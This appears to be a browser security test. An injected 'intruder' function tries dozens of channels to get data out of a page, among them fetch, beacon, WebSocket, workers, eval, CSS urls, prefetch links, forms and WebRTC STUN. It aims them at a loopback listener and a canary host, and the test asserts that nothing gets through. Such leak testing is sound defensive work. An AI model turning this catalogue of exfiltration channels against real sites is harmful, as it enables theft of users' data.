// Nothing gets out: an intruder's script tries every channel that browsers have, while
// listeners on the loopback and the browser's own log of its network look on.
import assert from 'node:assert/strict';
import { createSocket } from 'node:dgram';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';

import { byId, check, example, launch, open } from './page.mjs';

/** A name that nobody owns; the log of the browser must not know it. */
const NAME = 'leak-canary.test';

/** Counts connections over TCP and datagrams over UDP on one port of the loopback. */
async function listen() {
  const heard = { tcp: 0, udp: 0 };
  const tcp = createServer((socket) => {
    heard.tcp += 1;
    socket.destroy();
  });
  await new Promise((ready) => tcp.listen(0, '127.0.0.1', ready));
  const { port } = tcp.address();
  const udp = createSocket('udp4', () => (heard.udp += 1));
  await new Promise((ready) => udp.bind(port, '127.0.0.1', ready));
  const close = () => {
    tcp.close();
    udp.close();
  };
  return { heard, port, close };
}

/**
 * Runs in the page: tries each channel, and tells which of them could not even be tried.
 * Leaving the page altogether is not among them: no policy forbids it, and our code holds
 * no such line (the check of the bundle sees to that).
 */
function intrude({ port, name }) {
  const targets = [`http://127.0.0.1:${port}/`, `http://${name}/`];
  const refused = [];
  const attempt = (channel, act) => {
    try {
      const made = act();
      if (made?.catch) made.catch(() => undefined);
    } catch (error) {
      refused.push(`${channel}: ${error.name}`);
    }
  };
  const attach = (tag, attributes, parent = document.body) => {
    const made = document.createElement(tag);
    for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
    parent.append(made);
    return made;
  };
  for (const url of targets) {
    attempt('fetch', () => fetch(url + 'fetch', { mode: 'no-cors' }));
    attempt('keepalive', () => fetch(url + 'keep', { mode: 'no-cors', keepalive: true }));
    attempt('beacon', () => navigator.sendBeacon(url + 'beacon', 'x'));
    attempt('xhr', () => {
      const request = new XMLHttpRequest();
      request.open('POST', url + 'xhr');
      request.send('x');
    });
    attempt('socket', () => new WebSocket(url.replace('http', 'ws') + 'socket'));
    attempt('events', () => new EventSource(url + 'events'));
    attempt('image', () => (new Image().src = url + 'image'));
    attempt('srcset', () => attach('img', { srcset: `${url}srcset 2x` }));
    attempt('import', () => import(url + 'module.js'));
    attempt('worker', () => new Worker(url + 'worker.js'));
    attempt('blob worker', () => {
      const code = new Blob([
        `fetch('${url}blob', {mode: 'no-cors'}); importScripts('${url}x.js')`,
      ]);
      return new Worker(URL.createObjectURL(code));
    });
    attempt('shared worker', () => new SharedWorker(url + 'shared.js'));
    attempt('service worker', () => navigator.serviceWorker.register(url + 'service.js'));
    attempt('font', () => new FontFace('leak', `url(${url}font)`).load());
    attempt('ping', () => attach('a', { href: '#', ping: url + 'ping' }).click());
    attempt('transport', () => new WebTransport(url.replace('http', 'https')));
    attempt('script', () => (attach('script', {}).src = url + 'script.js'));
    attempt('inline script', () => {
      attach('script', {}).textContent = `fetch('${url}inline', {mode: 'no-cors'})`;
    });
    attempt('markup', () => (document.body.innerHTML += `<img src="${url}markup">`));
    attempt('eval', () => (0, eval)(`fetch('${url}eval', {mode: 'no-cors'})`));
    for (const tag of ['iframe', 'embed', 'audio', 'video', 'input']) {
      attempt(tag, () => attach(tag, { src: url + tag, type: tag === 'input' ? 'image' : '' }));
    }
    attempt('poster', () => attach('video', { poster: url + 'poster' }));
    attempt('object', () => attach('object', { data: url + 'object' }));
    attempt('track', () => {
      attach('track', { src: url + 'track', default: '' }, attach('video', {}));
    });
    attempt('srcdoc', () => attach('iframe', { srcdoc: `<img src="${url}srcdoc">` }));
    for (const rel of [
      'stylesheet',
      'prefetch',
      'preload',
      'modulepreload',
      'dns-prefetch',
      'preconnect',
      'prerender',
      'icon',
      'manifest',
    ]) {
      attempt(rel, () => attach('link', { rel, href: url + rel, as: 'image' }, document.head));
    }
    attempt('rules', () => {
      const rules = { prefetch: [{ source: 'list', urls: [url + 'rules'] }] };
      attach('script', { type: 'speculationrules' }).textContent = JSON.stringify(rules);
    });
    attempt('style', () => attach('p', { style: `background: url(${url}style)` }));
    attempt('sheet', () => {
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(`body { background: url(${url}sheet); cursor: url(${url}c), auto }`);
      document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
    });
    attempt('form', () => {
      const form = attach('form', { action: url + 'form', method: 'post', target: 'hidden' });
      form.requestSubmit();
    });
    attempt('svg', () => {
      const svg = document.createElementNS('http://www.w3.org/2000/svg', 'image');
      svg.setAttribute('href', url + 'svg');
      document.body.append(svg);
    });
  }
  attempt('peer', () => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
    peer.createDataChannel('leak');
    return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  });
  attempt('peer of a window', () => {
    const { RTCPeerConnection } = window.open('');
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
    peer.createDataChannel('leak');
    return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  });
  attempt('peer of a frame', () => {
    const { RTCPeerConnection } = attach('iframe', {}).contentWindow;
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
    peer.createDataChannel('leak');
    return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  });
  return refused;
}

for (const old of [false, true]) {
  const browser = old ? 'Chromium 109' : 'the Chromium of today';
  test(`no channel out of the page is open to an intruder's script in ${browser}`, async (t) => {
    const folder = mkdtempSync(join(tmpdir(), 'huqing-'));
    const log = join(folder, 'net.json');
    t.after(() => rmSync(folder, { recursive: true, force: true }));
    const ears = await listen();
    t.after(ears.close);
    const running = await launch({ old, args: [`--log-net-log=${log}`] });
    const { page } = await open(running);
    await check(page, [example]);
    await byId(page, 'begin').click();
    await byId(page, 'message').waitFor();
    const refused = await page.evaluate(intrude, { port: ears.port, name: NAME });
    await page.waitForTimeout(1500);
    await running.close();
    t.diagnostic(`could not even be tried: ${refused.join(', ')}`);
    assert.deepEqual(ears.heard, { tcp: 0, udp: 0 });
    const network = readFileSync(log, 'utf8');
    assert.ok(network.includes('"events"'), 'the browser kept a log');
    assert.ok(!network.includes(NAME), 'a name was asked for or called');
    assert.ok(!network.includes(`127.0.0.1:${ears.port}`), 'the loopback was called');
  });
}
